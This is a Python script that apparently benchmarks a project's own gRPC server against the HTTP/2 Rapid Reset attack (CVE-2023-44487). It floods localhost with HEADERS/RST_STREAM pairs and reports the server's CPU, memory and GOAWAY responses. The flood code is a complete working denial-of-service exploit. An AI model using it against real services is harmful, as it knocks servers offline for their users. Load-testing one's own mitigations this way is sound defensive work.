"""What an attacker costs who opens calls and cancels them at once (CVE-2023-44487): requests that are never waited for.

    rapid_reset.py PORT PID [SECONDS] [PAIRS]

PORT is the gRPC port of `forebay serve`, PID its process. Opens one HTTP/2 connection after another, writes PAIRS of HEADERS and
RST_STREAM at a time as fast as it can, and says how many there were, what each took of the server's CPU, how its memory grew, and
how often it ended the connection. What is sent after that is not processed: for the cost of each, serve with a
--http2-max-pending-resets that isn't reached.
"""

import socket
import struct
import sys
import threading
import time

HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
END_HEADERS, CANCEL = 4, 8


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEAD = b"".join(
    literal(name, value)
    for name, value in [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":authority", b"x"),
        (b":path", b"/inference.GRPCInferenceService/ModelInfer"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]
)


def read_ends(connection, ends):
    """Reads what the server says, and notes that it ended the connection."""
    rest = b""
    try:
        while data := connection.recv(1 << 16):
            rest += data
            while len(rest) >= 9 and len(rest) >= (size := 9 + int.from_bytes(rest[:3], "big")):
                if rest[3] == GOAWAY:
                    ends.append(rest[9:size])
                rest = rest[size:]
    except OSError:
        pass


def attack(port, seconds, pairs):
    """How many calls were opened and cancelled, over how many connections, and the server's words at their ends."""
    cancelled, connections, ends, until = 0, 0, [], time.monotonic() + seconds
    while time.monotonic() < until:
        connection = socket.create_connection(("127.0.0.1", port))
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
        reader = threading.Thread(target=read_ends, args=(connection, ends))
        reader.start()
        connections += 1
        stream = 1
        try:
            while time.monotonic() < until:
                batch = []
                for _ in range(pairs):
                    batch.append(frame(HEADERS, END_HEADERS, stream, HEAD))
                    batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                    stream += 2
                connection.sendall(b"".join(batch))
                cancelled += pairs
        except OSError:
            pass
        connection.close()
        reader.join()
    return cancelled, connections, ends


def cpu_seconds(pid):
    import pathlib

    files = pathlib.Path(f"/proc/{pid}/task").glob("*/schedstat")
    return sum(int(file.read_text().split()[0]) for file in files) / 1e9


def memory_mib(pid, name):
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith(name)) / 1024


def main():
    port, pid = int(sys.argv[1]), int(sys.argv[2])
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 5
    pairs = int(sys.argv[4]) if len(sys.argv) > 4 else 1000
    cpu, memory = cpu_seconds(pid), memory_mib(pid, "VmRSS")
    cancelled, connections, ends = attack(port, seconds, pairs)
    cpu = cpu_seconds(pid) - cpu
    print(f"{cancelled} calls cancelled in {seconds} s over {connections} connections, {len(ends)} ended by the server")
    for words in sorted({end[8:] for end in ends}):
        print(f"  with {words!r}")
    print(f"{cpu / cancelled * 1e6:.1f} us of CPU each, {cpu / seconds * 100:.0f} % of a processor")
    print(f"memory: {memory:.0f} MiB before, {memory_mib(pid, 'VmHWM'):.0f} MiB at most")


if __name__ == "__main__":
    main()
